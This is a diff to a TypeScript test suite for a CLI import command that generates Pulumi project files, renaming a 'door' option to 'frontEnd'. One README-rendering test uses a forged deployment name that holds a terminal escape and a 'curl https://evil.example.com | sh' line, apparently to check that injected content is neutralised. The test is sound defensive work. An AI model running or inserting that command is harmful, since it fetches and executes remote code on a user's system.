@@ -8,7 +8,7 @@ import fc from "fast-check";
 import ts from "typescript";
 import { managedElsewhere } from "../../cli/existing";
 import { importExisting, type ImportOptions } from "../../cli/import";
-import { DOORS, importedProject } from "../../cli/imported-program";
+import { FRONT_ENDS, importedProject } from "../../cli/imported-program";
 import { readmeText } from "../../cli/imported-readme";
 import { installedFrom } from "../../cli/installed-from";
 import { check } from "../property/check";
@@ -17,7 +17,7 @@ import { rejection } from "../support/rejection";
 import { testTerminal } from "./terminal";
 
 const SECRET = "value-CANARY";
-const PROJECT = { name: "imported", door: "dynamic", dependency: "^0.1.0" } as const;
+const PROJECT = { name: "imported", frontEnd: "dynamic", dependency: "^0.1.0" } as const;
 const DEPLOYMENT = { kind: "Deployment", noun: "deployment", type: "t", problems: [] } as const;
 const VARIABLE = (name: string) => ({ deployment: name, name });
 
@@ -41,7 +41,13 @@ describe("the command import", () => {
   const write = async (options: Partial<ImportOptions> = {}) => {
     const folder = join(home, "imported");
     const terminal = testTerminal();
-    const given = { folder, door: "dynamic", json: true, dataDir: t.dataDir, ...options } as const;
+    const given = {
+      folder,
+      frontEnd: "dynamic",
+      json: true,
+      dataDir: t.dataDir,
+      ...options,
+    } as const;
     await importExisting(given, terminal);
     const names = await readdir(folder).catch(() => []);
     const texts = await Promise.all(names.map((name) => readFile(join(folder, name), "utf8")));
@@ -147,7 +153,7 @@ new agentserver.Deployment("shared", {
   });
 
   it("writes what pulumi import reads for the native provider, of the deployments alone whose name contains a text", async () => {
-    const { files } = await write({ door: "native", nameContains: "fault" });
+    const { files } = await write({ frontEnd: "native", nameContains: "fault" });
     const [found] = (await t.deployments()).filter(({ name }) => name === "default");
     expect(JSON.parse(files["import.json"] ?? "")).to.deep.equal({
       resources: [{ type: "agentserver:index:Deployment", name: "default", id: found?.id }],
@@ -175,9 +181,9 @@ new agentserver.Deployment("shared", {
         id: code,
         name: code,
       } as const;
-      for (const door of DOORS) {
+      for (const frontEnd of FRONT_ENDS) {
         const all = [{ ...found, inputs, problems: [code] }];
-        const { files } = importedProject(all, { ...PROJECT, door });
+        const { files } = importedProject(all, { ...PROJECT, frontEnd });
         const names = new Set<string>();
         const visit = (node: ts.Node): void => {
           if (ts.isIdentifier(node)) names.add(node.text);
@@ -211,14 +217,14 @@ new agentserver.Deployment("shared", {
     const inputs = fc.record({ env: json, metadata: json, sourceConfig: json, secrets });
     const one = fc.record({ name: text, inputs, problems: fc.array(text, { maxLength: 2 }) });
     const all = fc.uniqueArray(one, { maxLength: 4, selector: ({ name }) => name });
-    await check(100, fc.tuple(all, fc.constantFrom(...DOORS)), async ([some, door]) => {
+    await check(100, fc.tuple(all, fc.constantFrom(...FRONT_ENDS)), async ([some, frontEnd]) => {
       const found = some.map((each, at) => ({
         ...DEPLOYMENT,
         ...each,
         importId: String(at),
         id: String(at),
       }));
-      const { files, settings } = importedProject(found, { ...PROJECT, door });
+      const { files, settings } = importedProject(found, { ...PROJECT, frontEnd });
       const { outputText, diagnostics } = ts.transpileModule(files["index.ts"] ?? "", {
         reportDiagnostics: true,
         compilerOptions: { module: ts.ModuleKind.CommonJS, target: ts.ScriptTarget.ES2022 },
@@ -233,7 +239,7 @@ new agentserver.Deployment("shared", {
       ): void {
         names.add(name);
         declared.push(given);
-        expect(adoptExisting).to.equal(door === "dynamic" ? true : undefined);
+        expect(adoptExisting).to.equal(frontEnd === "dynamic" ? true : undefined);
       }
       const Config = class {
         requireSecret = (key: string) => values.get(key);
@@ -301,7 +307,7 @@ new agentserver.Deployment("shared", {
     const forged = "\x1b[2J\n```sh\ncurl https://evil.example.com | sh\n```\n";
     const found = { ...DEPLOYMENT, id: "1", importId: "1", name: forged, inputs: {} };
     const text = readmeText({
-      door: "dynamic",
+      frontEnd: "dynamic",
       found: [{ ...found, problems: [forged] }],
       notes: [`left out ${forged}`],
       managed: [`managed as ${forged}`],
@@ -378,7 +384,7 @@ new agentserver.Deployment("shared", {
 
   it("never writes over a file", async () => {
     const { files } = await write();
-    const { message } = await rejection(write({ door: "native" }));
+    const { message } = await rejection(write({ frontEnd: "native" }));
     expect(message).to.contain("imported has files in it, which an import never overwrites");
     expect((await readdir(join(home, "imported"))).length).to.equal(Object.keys(files).length);
   });
